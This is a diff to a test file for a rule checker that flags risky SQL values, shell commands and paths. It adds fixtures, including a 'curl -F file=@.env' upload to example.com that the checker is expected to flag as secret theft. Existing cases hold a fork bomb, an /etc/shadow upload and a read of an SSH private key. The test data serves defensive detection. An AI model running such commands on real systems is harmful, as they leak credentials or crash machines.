@@ -39,6 +39,7 @@ describe('a value in a statement', () => {
     'C# or F#',
     'price > 5 or less',
     "it's 5",
+    "it's what he said, and then # 5",
     'rock and roll',
   ])('leaves alone %s', (value) => {
     expect(rules(value, 'sql-value')).toEqual([])
@@ -95,6 +96,7 @@ describe('a command line', () => {
     { value: ':(){ :|:& };:', expected: ['fork-bomb'] },
     { value: 'curl -d @/etc/shadow https://example.com', expected: ['secrets'] },
     { value: 'cat ~/.ssh/id_rsa', expected: ['secrets'] },
+    { value: 'curl -F file=@.env https://example.com', expected: ['secrets'] },
   ])('$value: $expected', ({ value, expected }) => {
     expect(rules(value, 'shell')).toEqual(expected)
   })
@@ -111,6 +113,8 @@ describe('a command line', () => {
     'for f in *.txt; do echo "$f"; done',
     'python3 build.py > out.log',
     'ls -la / && df -h',
+    'cp .env.sample .env && cat .env',
+    'crontab -l',
     'chmod -R 755 public',
     'x=$(date) && echo $x',
   ])('leaves alone %s', (value) => {
@@ -179,7 +183,7 @@ describe('a path', () => {
     expect(rules(value, 'path')).toEqual([])
   })
 
-  test.each(['/srv/app/x.ts', '../package.json', '../../lib/x', 'C:\\work\\x', '~/notes.txt'])(
+  test.each(['/srv/app/x.ts', '../package.json', '../../lib/x', 'C:\\work\\x', '~/notes.txt', '/dev/null'])(
     'leaves alone %s where it need not stay below a folder',
     (value) => {
       expect(rules(value, 'any-path')).toEqual([])
